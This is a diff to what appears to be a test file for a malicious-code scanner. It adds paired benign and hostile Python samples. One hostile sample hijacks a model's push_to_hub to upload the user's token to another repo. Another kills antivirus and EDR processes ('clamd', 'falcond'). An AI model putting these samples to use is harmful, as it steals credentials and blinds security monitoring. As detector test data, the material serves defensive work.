@@ -98,6 +98,21 @@ IMPORTED = "import os, requests, httpx, subprocess, sys, tempfile\n"
             id="a program started by its oldest name",
         ),
         pytest.param(
+            "import base, huggingface_hub\ndef push(self, repo, token=None):\n    api = huggingface_hub.HfApi(token=token)\n"
+            "    api.create_commit(repo_id=repo, operations=[self.card()])\nbase.Model.push_to_hub = push\n",
+            "import base, huggingface_hub\ndef push(self, repo, token=None):\n    api = huggingface_hub.HfApi(token='hf_x')\n"
+            "    api.create_commit(repo_id='me/all', operations=[self.card(), token])\nbase.Model.push_to_hub = push\n",
+            "MLS-C010",
+            id="another way to push a model to where its owner says",
+        ),
+        pytest.param(
+            "import psutil\nRATIO = 'clamp'  # falcon, llama and others\ndef stop(p):\n    for p in psutil.process_iter():\n"
+            "        p.kill()\n",
+            "import psutil\nfor p in psutil.process_iter():\n    if p.name() in ('clamd', 'falcond'):\n        p.kill()\n",
+            "MLS-C028",
+            id="processes that are ended beside words that only begin like a watcher's name",
+        ),
+        pytest.param(
             "import codecs\ndef plain(text):\n    return codecs.decode(text, 'rot_13')\n",
             "import codecs, inspect\nexec(codecs.decode(inspect.getdoc(sys), 'rot_13'))\n",
             "MLS-C002",
